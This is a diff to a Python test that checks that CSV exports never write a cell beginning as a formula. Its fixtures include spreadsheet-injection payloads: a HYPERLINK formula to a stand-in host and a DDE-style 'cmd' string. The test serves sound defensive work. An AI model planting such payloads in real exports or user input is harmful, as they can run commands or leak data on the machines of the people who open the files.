@@ -21,7 +21,7 @@ from starlette.types import ASGIApp
 
 from app.edge.logs import without_secrets
 from app.models.export import FileForm
-from app.models.place import Place
+from app.models.place import PlaceAlias
 from app.services.access import bi_keys
 from app.services.exports import sets
 from app.services.exports.written import RISKY
@@ -36,6 +36,9 @@ RUN = (
     '=HYPERLINK("http://x.example?"&A1;"klik")',
     "@SUM(1+9)*cmd|'x'!A0",
 )
+SENT = tuple(text for text in RUN if not text[0].isspace())
+"""Of what comes in by the API, white space around it is left out."""
+
 NOW = datetime.now(UTC)
 
 
@@ -47,9 +50,10 @@ def town(session: Session) -> None:
         key = f"p{number}"
         given_partner(session, key, name=text, description=f"{text}\r\n{text}", website=None)
         given_intervention(session, f"i{number}", name=text, aim=text, partners=[key], places=["veld"], goals=["rust"])
-        measured(session, str(2010 + number), 30 - number, note=f'{text}"; x', source=text)
+        if text in SENT:
+            measured(session, str(2003 + number), 30 - number, note=f'{text}"; x', source=text)
     given_source(session, "=1+1", name="=2+2", licence="=3+3", url="https://x.example/?a='<>\"b")
-    session.get_one(Place, "veld").aliases = [FORMULA, "-1", "x|=1"]
+    session.add_all(PlaceAlias(place_id="veld", alias=alias) for alias in ("-1", FORMULA, "x|=1"))
     session.commit()
 
 
@@ -57,10 +61,10 @@ async def test_no_cell_of_any_file_begins_as_a_formula_and_all_of_them_say_what_
     api: httpx.AsyncClient, town: None
 ) -> None:
     written = {
-        "/measurements": {"note": {f'{text}"; x' for text in RUN}, "source": set(RUN)},
+        "/measurements": {"note": {f'{text}"; x' for text in SENT}, "source": set(SENT)},
         "/partners": {"name": set(RUN), "description": {f"{text}\r\n{text}" for text in RUN}},
         "/interventions": {"name": set(RUN), "aim": set(RUN)},
-        "/places": {"aliases": {f"{FORMULA}|-1|x|=1"}},
+        "/places": {"aliases": {f"-1|{FORMULA}|x|=1"}},
     }
     for path, columns in written.items():
         for form in ("csv", "csv-nl"):
